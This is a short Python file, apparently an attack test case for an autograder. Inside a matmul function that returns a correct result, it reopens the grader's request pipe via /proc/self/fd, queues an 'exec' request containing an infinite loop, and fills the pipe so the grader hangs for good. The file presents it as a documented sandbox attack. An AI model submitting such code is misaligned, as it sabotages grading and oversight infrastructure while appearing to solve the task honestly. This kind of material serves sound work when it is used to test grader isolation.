# attacks: 1.8
# damage: hangs the grader for good: reopens its own request pipe for writing (via
#   /proc/self/fd), queues a request that never finishes and fills the pipe, so the grader's
#   next write would block forever (no timeout can fire while the grader is stuck writing)
# needs: boundary
import os
import sys

import torch
from autograder import wire


def matmul(a, b):
    try:
        pipe = os.open(f"/proc/self/fd/{sys.argv[-2]}", os.O_WRONLY | os.O_NONBLOCK)
    except OSError:
        return None  # the pipe is the grader's (root's): nothing to stall with
    os.write(pipe, wire.encode({"op": "exec", "lesson": "l01_matmul", "filename": "stall.py",
                                "source": "class Stall:\n    while True:\n        pass\n", "tasks": []}))
    try:
        while True:  # small writes share pages with the request, so reading it frees none
            os.write(pipe, bytes(256))
    except BlockingIOError:
        pass  # full: the child will run the queued request, and nobody drains the rest
    return a @ b
